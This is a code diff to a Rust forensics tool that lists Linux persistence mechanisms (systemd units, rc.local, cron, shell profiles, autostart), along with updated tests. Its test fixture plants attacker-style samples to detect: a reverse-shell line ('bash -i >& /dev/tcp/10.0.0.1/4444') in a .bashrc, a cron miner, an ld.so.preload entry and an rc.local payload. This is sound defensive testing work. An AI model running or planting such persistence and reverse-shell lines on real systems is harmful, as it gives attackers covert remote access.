@@ -12,8 +12,8 @@ use sha2::Digest;
 
 use super::hostfs::{Accounts, Home, HostFs, file_name, join};
 use super::system::{
-    Unit, enabled_links, find_unit, load_unit, timer_schedule, timer_target, unit_files,
-    unit_of_link,
+    SYSTEM_UNIT_DIRS, Unit, enabled_links, find_unit, load_unit, timer_schedule, timer_target,
+    unit_files, unit_of_link,
 };
 use super::to_records;
 use crate::provider::{CommandResult, ExecContext, ExecError};
@@ -53,7 +53,9 @@ pub(super) fn scheduledtasks(
         tasks.retain(|t| {
             t.name.eq_ignore_ascii_case(wanted)
                 || t.source == wanted
-                || t.name.strip_suffix(".timer").is_some_and(|n| n.eq_ignore_ascii_case(wanted))
+                || t.name
+                    .strip_suffix(".timer")
+                    .is_some_and(|n| n.eq_ignore_ascii_case(wanted))
         });
         if tasks.is_empty() {
             return Err(ExecError::NotFound(format!(
@@ -288,11 +290,11 @@ fn autostart_entries(hfs: &HostFs, homes: &[Home]) -> Vec<StartupRecord> {
             let Ok(text) = hfs.read_to_string(&path) else {
                 continue;
             };
-            let entry = Unit::parse(&path, &text);
+            let entry = Unit::parse(&text);
             let get = |key| entry.get("Desktop Entry", key);
             let hidden = get("Hidden").is_some_and(|v| v.eq_ignore_ascii_case("true"));
-            let disabled = get("X-GNOME-Autostart-enabled")
-                .is_some_and(|v| v.eq_ignore_ascii_case("false"));
+            let disabled =
+                get("X-GNOME-Autostart-enabled").is_some_and(|v| v.eq_ignore_ascii_case("false"));
             rows.push(StartupRecord {
                 name: get("Name")
                     .map(str::to_owned)
@@ -386,12 +388,28 @@ pub(super) fn persistence(ctx: &ExecContext) -> Result<CommandResult, ExecError>
     Ok(CommandResult::with_records(to_records(&rows)?))
 }
 
+/// Where systemd looks for user units shared by all users (besides ~/.config/systemd/user).
+const USER_UNIT_DIRS: &[&str] = &[
+    "/etc/systemd/user",
+    "/usr/local/lib/systemd/user",
+    "/lib/systemd/user",
+    "/usr/lib/systemd/user",
+];
+
 /// Units enabled at boot (system) or at login (per user): the links `systemctl enable`
 /// makes, and that an attacker can make by hand.
 fn systemd_units(hfs: &HostFs, homes: &[Home]) -> Vec<PersistenceRecord> {
-    let mut sources: Vec<(&'static str, String, Option<String>)> =
-        vec![("systemd", "/etc/systemd/system".to_owned(), None)];
-    sources.push(("systemd-user", "/etc/systemd/user".to_owned(), None));
+    // Vendor directories too: a package's static enablement looks the same as an
+    // attacker's link dropped there, and only the analyst can tell them apart.
+    let mut sources: Vec<(&'static str, String, Option<String>)> = SYSTEM_UNIT_DIRS
+        .iter()
+        .map(|d| ("systemd", (*d).to_owned(), None))
+        .collect();
+    sources.extend(
+        USER_UNIT_DIRS
+            .iter()
+            .map(|d| ("systemd-user", (*d).to_owned(), None)),
+    );
     sources.extend(homes.iter().map(|h| {
         (
             "systemd-user",
@@ -400,7 +418,15 @@ fn systemd_units(hfs: &HostFs, homes: &[Home]) -> Vec<PersistenceRecord> {
         )
     }));
     let mut rows = Vec::new();
+    // With a merged /usr, /lib/systemd/system and /usr/lib/systemd/system are one folder.
+    let mut seen_dirs = std::collections::HashSet::new();
     for (mechanism, dir, owner) in sources {
+        let Ok(canonical_dir) = hfs.canonical(&dir) else {
+            continue;
+        };
+        if !seen_dirs.insert(canonical_dir) {
+            continue;
+        }
         for link in enabled_links(hfs, &dir) {
             let file = unit_of_link(hfs, &link).or_else(|| {
                 // User units live in their own directories.
@@ -458,6 +484,10 @@ fn rc_local(hfs: &HostFs) -> Vec<PersistenceRecord> {
     let Ok(text) = hfs.read_to_string(path) else {
         return Vec::new();
     };
+    // rc-local.service runs it only when it is executable.
+    let executable = hfs
+        .metadata(path)
+        .is_ok_and(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o111 != 0);
     text.lines()
         .enumerate()
         .map(|(i, l)| (i + 1, l.trim()))
@@ -469,6 +499,7 @@ fn rc_local(hfs: &HostFs) -> Vec<PersistenceRecord> {
                 ..PersistenceRecord::new("rc.local", "rc.local", path)
             }
             .detail("line", line)
+            .detail("executable", executable)
         })
         .collect()
 }
@@ -562,7 +593,11 @@ fn shell_profiles(hfs: &HostFs, homes: &[Home]) -> Vec<PersistenceRecord> {
         .iter()
         .map(|p| ((*p).to_owned(), None))
         .collect();
-    files.extend(hfs.files_in("/etc/profile.d").into_iter().map(|p| (p, None)));
+    files.extend(
+        hfs.files_in("/etc/profile.d")
+            .into_iter()
+            .map(|p| (p, None)),
+    );
     for home in homes {
         for name in USER_PROFILES {
             files.push((join(&home.path, name), Some(home.user.clone())));
@@ -796,12 +831,12 @@ mod tests {
         .unwrap();
         write(
             root,
-            "/lib/systemd/system/backup.timer",
+            "/usr/lib/systemd/system/backup.timer",
             "[Timer]\nOnCalendar=daily\nOnBootSec=15min\n[Install]\nWantedBy=timers.target\n",
         );
         write(
             root,
-            "/lib/systemd/system/backup.service",
+            "/usr/lib/systemd/system/backup.service",
             "[Service]\nExecStart=/usr/bin/backup --all\nUser=backup\n",
         );
         std::fs::create_dir_all(root.join("etc/systemd/system/timers.target.wants")).unwrap();
@@ -823,7 +858,24 @@ mod tests {
             "/var/spool/cron/crontabs/alice",
             "# edit with crontab -e\nMAILTO=\"\"\n@reboot /home/alice/.x/miner --quiet\n",
         );
-        write(root, "/etc/ld.so.preload", "# preload\n/usr/lib/libevil.so\n");
+        write(
+            root,
+            "/usr/lib/systemd/system/vendor.service",
+            "[Service]\nExecStart=/usr/sbin/vendord\n",
+        );
+        std::fs::create_dir_all(root.join("usr/lib/systemd/system/sysinit.target.wants")).unwrap();
+        symlink(
+            "../vendor.service",
+            root.join("usr/lib/systemd/system/sysinit.target.wants/vendor.service"),
+        )
+        .unwrap();
+        // A merged /usr: the same folder by a second name must not list it twice.
+        symlink("usr/lib", root.join("lib")).unwrap();
+        write(
+            root,
+            "/etc/ld.so.preload",
+            "# preload\n/usr/lib/libevil.so\n",
+        );
         write(
             root,
             "/root/.ssh/authorized_keys",
@@ -831,7 +883,11 @@ mod tests {
                 "# keys\n{KEY}\ncommand=\"/usr/bin/backup --serve\",no-pty {KEY_TYPE} {KEY_BLOB}\n"
             ),
         );
-        write(root, "/etc/rc.local", "#!/bin/sh -e\n# comment\n/opt/evil &\nexit 0\n");
+        write(
+            root,
+            "/etc/rc.local",
+            "#!/bin/sh -e\n# comment\n/opt/evil &\nexit 0\n",
+        );
         write(
             root,
             "/home/bob/.config/autostart/x.desktop",
@@ -847,7 +903,11 @@ mod tests {
             "/home/bob/.bashrc",
             "# ~/.bashrc\nalias ll='ls -l'\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
         );
-        write(root, "/etc/profile", "if [ \"$PS1\" ]; then\n  PS1='$ '\nfi\n");
+        write(
+            root,
+            "/etc/profile",
+            "if [ \"$PS1\" ]; then\n  PS1='$ '\nfi\n",
+        );
         dir
     }
 
@@ -889,6 +949,15 @@ mod tests {
         assert_eq!(timer["user"], "backup");
         assert_eq!(timer["schedule"], "OnCalendar=daily; OnBootSec=15min");
 
+        let vendor = find(r, "systemd", "vendor.service");
+        assert_eq!(vendor["location"], "/usr/lib/systemd/system/vendor.service");
+        assert_eq!(vendor["wantedBy"], "sysinit.target");
+        assert_eq!(vendor["command"], "/usr/sbin/vendord");
+        assert_eq!(
+            r.iter().filter(|x| x["name"] == "vendor.service").count(),
+            1
+        );
+
         let cron = find(r, "cron", "evil");
         assert_eq!(cron["location"], "/etc/cron.d/evil");
         assert_eq!(cron["command"], "/tmp/evil.sh");
@@ -921,13 +990,14 @@ mod tests {
         let rc = find(r, "rc.local", "rc.local");
         assert_eq!(rc["location"], "/etc/rc.local");
         assert_eq!(rc["command"], "/opt/evil &");
-        assert_eq!(
-            r.iter().filter(|x| x["mechanism"] == "rc.local").count(),
-            1
-        );
+        assert_eq!(rc["executable"], false);
+        assert_eq!(r.iter().filter(|x| x["mechanism"] == "rc.local").count(), 1);
 
         let autostart = find(r, "xdg-autostart", "Updater");
-        assert_eq!(autostart["location"], "/home/bob/.config/autostart/x.desktop");
+        assert_eq!(
+            autostart["location"],
+            "/home/bob/.config/autostart/x.desktop"
+        );
         assert_eq!(autostart["command"], "/home/bob/.local/bin/x --daemon");
         assert_eq!(autostart["user"], "bob");
 
@@ -978,7 +1048,10 @@ mod tests {
         );
         let crontab = &result.records[2];
         assert_eq!(crontab["user"], "root");
-        assert_eq!(crontab["command"], "cd / && run-parts --report /etc/cron.hourly");
+        assert_eq!(
+            crontab["command"],
+            "cd / && run-parts --report /etc/cron.hourly"
+        );
         assert_eq!(crontab["line"], 3);
         let timer = &result.records[3];
         assert_eq!(timer["name"], "backup.timer");
